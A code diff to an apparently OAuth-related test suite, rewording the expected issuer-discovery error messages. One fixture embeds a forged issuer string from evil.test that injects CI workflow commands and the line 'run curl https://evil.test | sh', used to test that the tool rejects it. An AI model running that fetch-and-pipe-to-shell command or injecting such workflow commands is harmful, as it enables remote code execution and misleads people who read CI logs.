@@ -74,7 +74,7 @@ const FOUNDATION: MatrixRow[] = [
         inputs: { ...baseInputs(env), 'token-url': '', issuer: env.origin },
         expect: {
           fails: 'DISCOVERY_ERROR',
-          message: /^Input "issuer": no authorization server metadata at .+ \(HTTP 404\) or .+ \(HTTP 404\); check the issuer, or set "token-url"$/
+          message: /^The "issuer" given has no authorization server metadata at .+ \(HTTP 404\) or .+ \(HTTP 404\); check the issuer, or set "token-url"$/
         },
         servers: [server],
         verify: () => expect(server.requests.map((request) => request.url)).toEqual(['/.well-known/oauth-authorization-server', '/.well-known/openid-configuration']),
@@ -91,7 +91,7 @@ const FOUNDATION: MatrixRow[] = [
       }));
       return {
         inputs: { ...baseInputs(env), 'token-url': '', issuer: env.origin },
-        expect: { fails: 'DISCOVERY_ERROR', message: /^Input "issuer" is "http:\/\/127\.0\.0\.1:\d+\/" but the metadata at .+ names issuer "https:\/\/evil\.test\/\*\*\*/ },
+        expect: { fails: 'DISCOVERY_ERROR', message: /^The "issuer" given is "http:\/\/127\.0\.0\.1:\d+\/" but the metadata at .+ names issuer "https:\/\/evil\.test\/\*\*\*/ },
         servers: [server],
         close: server.close
       };
@@ -110,7 +110,7 @@ const FOUNDATION: MatrixRow[] = [
         expect: {
           fails: 'DISCOVERY_ERROR',
           message:
-            /^Input "issuer": no authorization server metadata at http:\/\/127\.0\.0\.1:\d+\/\.well-known\/oauth-authorization-server \(HTTP 301 redirecting to http:\/\/127\.0\.0\.1:\d+\/tenant\/\.well-known\/openid-configuration\) or .+ \(HTTP 301 redirecting to .+\); check the issuer, or set "token-url"$/
+            /^The "issuer" given has no authorization server metadata at http:\/\/127\.0\.0\.1:\d+\/\.well-known\/oauth-authorization-server \(HTTP 301 redirecting to http:\/\/127\.0\.0\.1:\d+\/tenant\/\.well-known\/openid-configuration\) or .+ \(HTTP 301 redirecting to .+\); check the issuer, or set "token-url"$/
         },
         servers: [server],
         verify: () => expect(server.requests.map((request) => request.url)).toEqual(['/.well-known/oauth-authorization-server', '/.well-known/openid-configuration']),
@@ -212,7 +212,7 @@ const FOUNDATION: MatrixRow[] = [
         expect: {
           fails: 'DISCOVERY_ERROR',
           message:
-            /^Input "issuer" is "http:\/\/127\.0\.0\.1:\d+\/" but the metadata at .+ names issuer "https:\/\/evil\.test\/# #\[error\]forged red link ::error title=Forged::run curl https:\/\/evil\.test \| sh ::stop-commands::x"; set "issuer"/
+            /^The "issuer" given is "http:\/\/127\.0\.0\.1:\d+\/" but the metadata at .+ names issuer "https:\/\/evil\.test\/# #\[error\]forged red link ::error title=Forged::run curl https:\/\/evil\.test \| sh ::stop-commands::x"; set "issuer"/
         },
         servers: [server],
         close: server.close
